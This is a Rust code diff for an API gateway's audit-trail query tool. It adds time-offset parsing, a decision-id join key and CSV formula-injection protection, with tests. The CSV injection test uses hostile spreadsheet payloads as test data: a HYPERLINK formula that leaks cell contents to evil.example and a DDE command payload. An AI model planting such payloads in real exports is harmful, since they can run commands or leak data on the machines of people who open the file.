@@ -10,7 +10,7 @@ use std::collections::HashMap;
 use std::fmt::Write as _;
 use std::path::PathBuf;
 use std::str::FromStr;
-use std::time::SystemTime;
+use std::time::{Duration, SystemTime};
 
 use serde::Serialize;
 use serde_json::{Map, Value};
@@ -78,7 +78,7 @@ pub enum QueryError {
     #[error(transparent)]
     Files(#[from] FilesError),
     /// A time filter is not a date or an RFC 3339 time.
-    #[error("`{text}` is not a time: use RFC 3339 (2026-11-22T19:20:00Z) or a date (2026-11-22, midnight UTC)")]
+    #[error("`{text}` is not a time: use RFC 3339 (2026-11-22T19:20:00Z, 2026-11-22T20:20:00+01:00) or a date (2026-11-22, midnight UTC)")]
     Time {
         /// What was given.
         text: String,
@@ -88,22 +88,67 @@ pub enum QueryError {
     Decision(String),
 }
 
-/// Parses a `--since`/`--until` value: RFC 3339 (`2026-11-22T19:20:00Z`,
-/// fractions and a space for `T` accepted) or a date (`2026-11-22`, meaning
-/// midnight UTC).
+/// Parses a `--since`/`--until` value: RFC 3339 with `Z` or a numeric
+/// offset (`2026-11-22T19:20:00Z`, `2026-12-01T00:00:00+01:00`; fractions,
+/// lower-case `t`/`z` and a space for `T` accepted; no offset means UTC) or
+/// a date (`2026-11-22`, meaning midnight UTC).
 ///
 /// # Errors
 /// Neither form.
 pub fn parse_time(text: &str) -> Result<SystemTime, QueryError> {
-    let is_date = text.len() == 10 && text.bytes().filter(|b| *b == b'-').count() == 2;
-    let full = if is_date {
-        format!("{text}T00:00:00Z")
-    } else {
-        text.to_owned()
-    };
-    humantime::parse_rfc3339_weak(&full).map_err(|_| QueryError::Time {
+    let refused = || QueryError::Time {
         text: text.to_owned(),
-    })
+    };
+    let upper = text.trim().to_ascii_uppercase();
+    let is_date = upper.len() == 10 && upper.bytes().filter(|b| *b == b'-').count() == 2;
+    if is_date {
+        return humantime::parse_rfc3339(&format!("{upper}T00:00:00Z")).map_err(|_| refused());
+    }
+    let (local, east) = split_offset(&upper).ok_or_else(refused)?;
+    // humantime reads UTC only, and lets some trailing text through: check
+    // the shape here, read the local time as UTC, then take the offset off.
+    let fraction = local.get(19..).unwrap_or("");
+    let fraction_ok = fraction.is_empty()
+        || (fraction.len() > 1
+            && fraction.starts_with('.')
+            && fraction[1..].bytes().all(|b| b.is_ascii_digit()));
+    if local.len() < 19 || !fraction_ok {
+        return Err(refused());
+    }
+    let as_utc = humantime::parse_rfc3339_weak(&format!("{local}Z")).map_err(|_| refused())?;
+    let shift = Duration::from_secs(east.unsigned_abs());
+    let utc = if east >= 0 {
+        as_utc.checked_sub(shift)
+    } else {
+        as_utc.checked_add(shift)
+    };
+    utc.ok_or_else(refused)
+}
+
+/// `…T19:20:00+01:00` → (`…T19:20:00`, 3600): the local time and its offset
+/// east of UTC in seconds (`Z`, `-00:00` and no offset: 0).
+fn split_offset(text: &str) -> Option<(&str, i64)> {
+    if let Some(local) = text.strip_suffix('Z') {
+        return Some((local, 0));
+    }
+    let at = text.len().checked_sub(6)?;
+    let (local, offset) = text.split_at_checked(at)?;
+    let sign = match offset.as_bytes() {
+        [b'+', _, _, b':', _, _] => 1,
+        [b'-', _, _, b':', _, _] => -1,
+        // No offset (a date's `-` is further left): UTC.
+        _ => return Some((text, 0)),
+    };
+    let number = |range: std::ops::Range<usize>| -> Option<i64> {
+        let part = offset.get(range)?;
+        part.bytes().all(|b| b.is_ascii_digit()).then_some(())?;
+        part.parse().ok()
+    };
+    let (hours, minutes) = (number(1..3)?, number(4..6)?);
+    if hours > 23 || minutes > 59 {
+        return None;
+    }
+    Some((local, sign * (hours * 3600 + minutes * 60)))
 }
 
 /// One decision with its outcome.
@@ -111,8 +156,11 @@ pub fn parse_time(text: &str) -> Result<SystemTime, QueryError> {
 pub struct Row {
     /// When it was decided.
     pub time: String,
-    /// The request id linking decision and outcome.
+    /// The client's request id (`x-request-id`); clients may reuse one.
     pub request_id: String,
+    /// The gateway-made id linking the decision to its outcome; `None` in
+    /// trails written before it existed (they link by `request_id`).
+    pub decision_id: Option<String>,
     /// The vendor profile.
     pub vendor: String,
     /// The principal's id; `-` when the call was refused before the caller
@@ -153,7 +201,8 @@ pub struct QueryOutput {
 
 /// Lists the decisions in `paths` (files read in the given order, a
 /// directory as its `*.jsonl` oldest first) that match `filter`, each joined
-/// with its `outcome` (which may come later, in the same or a later file).
+/// with its `outcome` (which may come later, in the same or a later file) by
+/// [`JoinKey`].
 /// Streams the files; only matching rows are kept. Does not verify the
 /// chain.
 ///
@@ -166,7 +215,7 @@ pub fn query_files(
 ) -> Result<QueryOutput, QueryError> {
     let matcher = Matcher::new(filter, pseudonym_key);
     let mut output = QueryOutput::default();
-    let mut awaiting_outcome: HashMap<String, usize> = HashMap::new();
+    let mut awaiting_outcome: HashMap<JoinKey, usize> = HashMap::new();
     let mut counts = Counts::default();
     for path in files::trail_files(paths)? {
         let mut reader = LineReader::open(&path)?;
@@ -191,12 +240,11 @@ pub fn query_files(
             };
             match text(&record, "kind") {
                 kind::DECISION if matcher.matches(&record, &mut counts) => {
-                    let row = row(&record);
-                    awaiting_outcome.insert(row.request_id.clone(), output.rows.len());
-                    output.rows.push(row);
+                    awaiting_outcome.insert(JoinKey::of(&record), output.rows.len());
+                    output.rows.push(row(&record));
                 }
                 kind::OUTCOME => {
-                    if let Some(index) = awaiting_outcome.remove(text(&record, "request_id")) {
+                    if let Some(index) = awaiting_outcome.remove(&JoinKey::of(&record)) {
                         join_outcome(&mut output.rows[index], &record);
                     }
                 }
@@ -206,6 +254,27 @@ pub fn query_files(
     }
     output.warnings = counts.warnings(output.skipped_lines);
     Ok(output)
+}
+
+/// What links a decision to its outcome (and later records): the
+/// gateway-made `decision_id`, unique per decision; in an older trail
+/// without it, the client's `request_id`, which a client may reuse.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub enum JoinKey {
+    /// The record's `decision_id`.
+    Decision(String),
+    /// The record's `request_id` (it has no `decision_id`).
+    Request(String),
+}
+
+impl JoinKey {
+    /// The key of a `decision`, `outcome` or later record.
+    pub fn of(record: &Map<String, Value>) -> Self {
+        match record.get("decision_id").and_then(Value::as_str) {
+            Some(id) if !id.is_empty() => Self::Decision(id.to_owned()),
+            _ => Self::Request(text(record, "request_id").to_owned()),
+        }
+    }
 }
 
 #[derive(Default)]
@@ -369,6 +438,11 @@ fn row(record: &Map<String, Value>) -> Row {
     Row {
         time: text(record, "time").to_owned(),
         request_id: text(record, "request_id").to_owned(),
+        decision_id: record
+            .get("decision_id")
+            .and_then(Value::as_str)
+            .filter(|id| !id.is_empty())
+            .map(str::to_owned),
         vendor: text(record, "vendor").to_owned(),
         caller: caller.to_owned(),
         targets: targets
@@ -555,14 +629,27 @@ pub fn render_json(rows: &[Row]) -> String {
     out
 }
 
-/// Renders rows as CSV (RFC 4180: CRLF line ends, a field with a comma,
-/// quote or line break quoted, quotes doubled), with a header row. Lists
-/// (targets, policies, reasons) are joined with `;`. Cells are not altered
-/// for spreadsheets: a cell may start with `=`.
+/// Renders rows as CSV (RFC 4180: CRLF line ends, quotes doubled), with a
+/// header row; `decision_id` is the last column. Lists (targets, policies,
+/// reasons) are joined with `;`.
+///
+/// Cells come from outside the gateway (ids, caller names, reasons), so
+/// none may run as a spreadsheet formula (OWASP, CSV injection): a cell, or
+/// a list item, that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return is prefixed with `'`; a cell holding a comma, `;` (the separator
+/// of some locales), a quote, tab or line break is quoted, so no separator
+/// inside it can start a new cell.
 pub fn render_csv(rows: &[Row]) -> String {
     let mut out = String::from(
-        "time,request_id,vendor,caller,targets,decision,mode,effect,policies,reasons,status,latency_ms,vendor_request_id\r\n",
+        "time,request_id,vendor,caller,targets,decision,mode,effect,policies,reasons,status,latency_ms,vendor_request_id,decision_id\r\n",
     );
+    let list = |items: &[String]| {
+        items
+            .iter()
+            .map(|item| inert(item))
+            .collect::<Vec<_>>()
+            .join(";")
+    };
     for row in rows {
         let number = |n: Option<u64>| n.map(|n| n.to_string()).unwrap_or_default();
         let fields = [
@@ -570,15 +657,16 @@ pub fn render_csv(rows: &[Row]) -> String {
             row.request_id.clone(),
             row.vendor.clone(),
             row.caller.clone(),
-            row.targets.join(";"),
+            list(&row.targets),
             row.decision.clone(),
             row.mode.clone(),
             row.effect.clone(),
-            row.policies.join(";"),
-            row.reasons.join(";"),
+            list(&row.policies),
+            list(&row.reasons),
             number(row.status.map(u64::from)),
             number(row.latency_ms),
             row.vendor_request_id.clone().unwrap_or_default(),
+            row.decision_id.clone().unwrap_or_default(),
         ];
         let quoted: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
         out.push_str(&quoted.join(","));
@@ -587,11 +675,22 @@ pub fn render_csv(rows: &[Row]) -> String {
     out
 }
 
+/// The text with a `'` in front when a spreadsheet would read it as a
+/// formula (OWASP's list of leading characters).
+fn inert(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
+
 fn csv_field(field: &str) -> String {
-    if field.contains([',', '"', '\r', '\n']) {
+    let field = inert(field);
+    if field.contains([',', ';', '"', '\t', '\r', '\n']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_owned()
+        field
     }
 }
 
@@ -834,6 +933,95 @@ mod tests {
     }
 
     #[test]
+    fn decisions_that_reuse_a_request_id_each_get_their_own_outcome_by_decision_id() {
+        let dir = tempfile::tempdir().unwrap();
+        let with_id = |mut record: Map<String, Value>, id: &str| {
+            record.insert("decision_id".into(), id.into());
+            record.insert("request_id".into(), "client-reused".into());
+            record
+        };
+        let allow = |n| {
+            decision(
+                n,
+                "kore",
+                Some("ops"),
+                &[("Kore::User", "u-1", &["p"])],
+                "allow",
+                "enforce",
+                None,
+            )
+        };
+        // Both calls are in flight before either outcome; the second
+        // answers first.
+        let paths = write_trail(
+            dir.path(),
+            vec![
+                with_id(allow(1), "0190-first"),
+                with_id(allow(2), "0190-second"),
+                with_id(outcome(2, 504, None), "0190-second"),
+                with_id(outcome(1, 200, Some("ds-1")), "0190-first"),
+            ],
+            &[],
+        );
+        let output = query(&paths, &QueryFilter::default());
+        type Joined<'r> = (Option<&'r str>, &'r str, Option<u16>, Option<&'r str>);
+        let joined: Vec<Joined<'_>> = output
+            .rows
+            .iter()
+            .map(|r| {
+                (
+                    r.decision_id.as_deref(),
+                    r.request_id.as_str(),
+                    r.status,
+                    r.vendor_request_id.as_deref(),
+                )
+            })
+            .collect();
+        assert_eq!(
+            joined,
+            [
+                (Some("0190-first"), "client-reused", Some(200), Some("ds-1")),
+                (Some("0190-second"), "client-reused", Some(504), None),
+            ]
+        );
+        // An older trail without decision ids still links by request id.
+        let older = tempfile::tempdir().unwrap();
+        let old = query(&trail(older.path()), &QueryFilter::default());
+        assert_eq!(old.rows[0].decision_id, None);
+        assert_eq!(old.rows[0].status, Some(200));
+    }
+
+    #[test]
+    fn since_and_until_accept_rfc_3339_with_an_offset() {
+        let utc = |text: &str| parse_time(text).unwrap();
+        assert_eq!(
+            utc("2026-12-01T00:00:00+01:00"),
+            utc("2026-11-30T23:00:00Z")
+        );
+        assert_eq!(
+            utc("2026-11-30T18:30:00.250-05:30"),
+            utc("2026-12-01T00:00:00.250Z")
+        );
+        assert_eq!(utc("2026-12-01t00:00:00z"), utc("2026-12-01T00:00:00Z"));
+        assert_eq!(utc("2026-12-01 00:00:00-00:00"), utc("2026-12-01"));
+        assert_eq!(utc("2026-12-01T00:00:00+00:00"), utc("2026-12-01"));
+        for bad in [
+            "2026-12-01T00:00:00+1:00",
+            "2026-12-01T00:00:00+24:00",
+            "2026-12-01T00:00:00+01:60",
+            "2026-12-01T00:00:00+0100",
+            "2026-12-01T00:00:00Zjunk",
+            "2026-12-01T00:00:00.Z",
+            "2026-12-01T00:00+01:00",
+            "2026-12-01+01:00",
+        ] {
+            assert!(parse_time(bad).is_err(), "{bad}");
+        }
+        let message = parse_time("tomorrow").unwrap_err().to_string();
+        assert!(message.contains("+01:00"), "{message}");
+    }
+
+    #[test]
     fn times_and_decisions_are_parsed_or_refused() {
         assert!(parse_time("2026-11-22T19:20:00.123Z").is_ok());
         assert!(parse_time("2026-11-22 19:20:00").is_ok());
@@ -905,6 +1093,7 @@ mod tests {
         Row {
             time: "2026-11-22T19:20:00.123Z".into(),
             request_id: "019a3b4c5d6e7f8091a2b3c4d5e6f708".into(),
+            decision_id: Some("019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709".into()),
             vendor: "kore".into(),
             caller: "privacy-ops".into(),
             targets: vec![
@@ -985,6 +1174,10 @@ mod tests {
         assert_eq!(parsed["targets"][1], "Kore::User::alice@example.com");
         assert_eq!(parsed["status"], 200);
         assert_eq!(parsed["vendor_request_id"], "ds-77");
+        assert_eq!(
+            parsed["decision_id"],
+            "019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709"
+        );
     }
 
     #[test]
@@ -994,12 +1187,77 @@ mod tests {
         let csv = render_csv(&[row]);
         let (header, body) = csv.split_once("\r\n").unwrap();
         assert!(header.starts_with("time,request_id,vendor,caller,targets"));
+        assert!(
+            header.ends_with(",vendor_request_id,decision_id"),
+            "{header}"
+        );
         assert_eq!(
             body,
             "2026-11-22T19:20:00.123Z,019a3b4c5d6e7f8091a2b3c4d5e6f708,kore,\"a,b\",\
-             Kore::User::u-1;Kore::User::alice@example.com;Kore::User::u-3;Kore::User::u-4,\
-             deny,shadow,forwarded,forbid-account-owner;allow-privacy-officer,\
-             \"owner, \"\"primary\"\"\nsee policy\",200,87,ds-77\r\n"
+             \"Kore::User::u-1;Kore::User::alice@example.com;Kore::User::u-3;Kore::User::u-4\",\
+             deny,shadow,forwarded,\"forbid-account-owner;allow-privacy-officer\",\
+             \"owner, \"\"primary\"\"\nsee policy\",200,87,ds-77,\
+             019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709\r\n"
         );
+    }
+
+    /// The cells of the one data row, read back as a CSV reader would.
+    fn csv_cells(csv: &str) -> Vec<String> {
+        let body = csv.split_once("\r\n").unwrap().1;
+        let body = body.strip_suffix("\r\n").unwrap();
+        let mut cells = vec![String::new()];
+        let mut quoted = false;
+        let mut chars = body.chars().peekable();
+        while let Some(c) = chars.next() {
+            match (c, quoted) {
+                ('"', true) if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cells.last_mut().unwrap().push('"');
+                }
+                ('"', _) => quoted = !quoted,
+                (',', false) => cells.push(String::new()),
+                (c, _) => cells.last_mut().unwrap().push(c),
+            }
+        }
+        cells
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+        let mut row = sample_row();
+        row.caller = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into();
+        row.targets = vec![
+            "+Kore::User::1".into(),
+            "-2+3".into(),
+            "@SUM(A1:A9)".into(),
+            "ok;=1+1".into(),
+        ];
+        row.reasons = vec!["\t=cmd|' /C calc'!A0".into(), "\r=1".into()];
+        row.vendor_request_id = Some("-1".into());
+        row.policies = vec!["a,=b".into()];
+        let csv = render_csv(&[row]);
+        let cells = csv_cells(&csv);
+        assert_eq!(cells.len(), 14, "{csv}");
+        assert_eq!(
+            cells[3], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "{csv}"
+        );
+        assert_eq!(
+            cells[4], "'+Kore::User::1;'-2+3;'@SUM(A1:A9);ok;=1+1",
+            "list items are neutralised one by one"
+        );
+        assert_eq!(cells[8], "a,=b");
+        assert_eq!(cells[9], "'\t=cmd|' /C calc'!A0;'\r=1");
+        assert_eq!(cells[12], "'-1");
+        // No cell starts with a formula character.
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+        // Ordinary cells are not altered.
+        assert_eq!(cells[0], "2026-11-22T19:20:00.123Z");
+        assert_eq!(cells[13], "019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709");
     }
 }
